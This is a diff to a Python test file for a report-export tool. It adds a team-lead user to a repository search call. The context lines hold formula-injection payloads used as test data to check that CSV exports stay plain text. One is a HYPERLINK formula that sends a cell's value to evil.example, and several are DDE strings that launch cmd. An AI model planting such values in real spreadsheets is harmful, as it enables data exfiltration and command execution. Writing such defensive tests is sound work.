@@ -7,6 +7,7 @@ import io
 import openpyxl
 import pytest
 
+from inspector.domain.people import User
 from inspector.reports.export import write_report
 from inspector.reports.filters import ReportFilter
 from inspector.reports.workstation import workstation_report
@@ -15,6 +16,8 @@ from inspector.scoring.export import rows_to_csv, write_csv
 from inspector.spreadsheet import FORMULA_STARTS, csv_text
 from inspector.store.evaluations import EvaluationFilter, EvaluationRepository
 from tests.report_fixtures import fixed_workspace
+
+LEAD = User("9001", "张组长", "lead")
 
 HOSTILE = {"agent_name": '=HYPERLINK("http://evil.example/?"&A1,"详情")', "team": "=cmd|'/c calc'!A0",
            "business_type": "@SUM(1+1)*cmd|' /C calc'!A0", "call_ref": "+1+cmd|'/c calc'!A0",
@@ -43,7 +46,7 @@ def _assert_csv_is_text(text: str) -> None:
 
 
 def test_evaluations_csv_holds_outside_values_as_text(hostile, tmp_path):
-    rows = EvaluationRepository(hostile.db, default_card()).search(EvaluationFilter())
+    rows = EvaluationRepository(hostile.db, default_card()).search(LEAD, EvaluationFilter())
     out = io.StringIO()
     rows_to_csv(rows, out)
     _assert_csv_is_text(out.getvalue())
